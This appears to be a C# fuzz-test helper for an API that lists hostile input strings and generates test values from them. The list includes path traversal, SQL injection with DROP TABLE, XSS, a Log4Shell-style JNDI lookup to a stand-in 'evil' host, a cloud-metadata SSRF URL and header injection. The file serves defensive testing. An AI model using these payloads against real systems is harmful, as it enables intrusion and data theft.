using CsCheck;

namespace KuaSheng.Api.Tests.Fuzz;

/// <summary>Strings an attacker or a broken client sends: huge, unicode tricks, traversal, injection, lookalike
/// numbers, and the seeded applicant's personal data (which no error may echo).</summary>
public static class HostileStrings
{
    /// <summary>Just over the node's 1 MB body limit once inside a JSON body (413).</summary>
    public static readonly string OverOneMegabyte = new('x', 1_048_600);

    /// <summary>Under the limit, but 900 KB of UTF-8 in one field.</summary>
    public static readonly string NearOneMegabyte = new('张', 300_000);

    public static readonly string[] Odd =
    [
        "", " ", "\t", "null", "undefined", "true", "0", "-1", "NaN", "Infinity", "1e309", "-0", "99999999999999999999999",
        "2147483648", "-2147483649", "9223372036854775808", "0x1F", "1.5", "１２３", "٣٤٥", "2026-02-30", "2026-13-01", "0000-00-00",
        "9999-12-31T23:59:59+14:00", "0001-01-01T00:00:00Z", "2026-10-01T25:61:00+08:00", "2026-10", "10/01/2026", "P1D",
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "..%2F..%2F", "%2e%2e%2f", "%00", "a%00b", "\u0000", "a\u0000b",
        "' OR '1'='1", "'; DROP TABLE event_journal; --", "\" OR \"\"=\"", "1; SELECT * FROM api_idempotency", "%' AND 1=1 --",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "${jndi:ldap://evil/x}", "{{7*7}}",
        "#{7*7}", "%s%s%s%n", "{0}{1}", "\r\nX-Injected: 1", "a\nb", "\u202Egnp.exe", "\u200F\u200E\u202B", "\u200B\u200C\u200D\uFEFF",
        "😀", "👨‍👩‍👧‍👦", "🏳️‍🌈", "e\u0301\u0301\u0301\u0301", "Z\u0351\u0352\u0353\u0354\u0355", "\uD800", "\uDFFF\uD800", "\uFFFF", "\uFFFE",
        "ﷺ", "𠜎𠜱𠝹", "张\u0000三", "Ⅻ", "İ", "ß", "ǅ", "ａｄｍｉｎ", "/api/v1/admin/cluster/leave", "http://169.254.169.254/latest",
        "file:///etc/passwd", "akka.tcp://kuasheng@10.255.255.1:1", "akka://kuasheng", "\\\\server\\share", "CON", "NUL",
        "~!@#$%^&*()_+`-=[]{}|;':\",./<>?", "{\"$type\":\"System.IO.FileInfo\"}", "[]", "{}", "__proto__", "constructor",
        new string('a', 201), new string('9', 5000), new string('张', 4000), string.Concat(Enumerable.Repeat("😀", 3000)),
        string.Concat(Enumerable.Repeat("\u202E", 1000)),
    ];

    /// <summary>Odd strings, valid values, personal data and (rarely) megabyte strings.</summary>
    public static Gen<string> Any(FuzzWorld world, bool allowHuge = true) => Gen.Frequency(
        (30, Gen.OneOf(Odd)),
        (20, Gen.OneOf(world.AllValid)),
        (15, Gen.OneOf(world.PersonalData.ToArray())),
        (10, Gen.String[0, 40]),
        (5, Gen.Char.Array[0, 2000].Select(c => new string(c))),
        (allowHuge ? 2 : 0, Gen.OneOf(OverOneMegabyte, NearOneMegabyte)),
        (allowHuge ? 3 : 0, Gen.Int[10_000, 200_000].Select(n => new string('9', n))));

    /// <summary>For a path segment or query value: the same, without megabytes (Kestrel's own 8 KB request line limit is
    /// exercised apart, <see cref="OverlongLine"/>).</summary>
    public static Gen<string> Short(FuzzWorld world) => Any(world, allowHuge: false).Select(s => s.Length > 1500 ? s[..1500] : s);

    /// <summary>A path segment beyond Kestrel's request line limit (8 KB): Kestrel answers 414 before the application.</summary>
    public static readonly string OverlongLine = new('a', 9000);
}
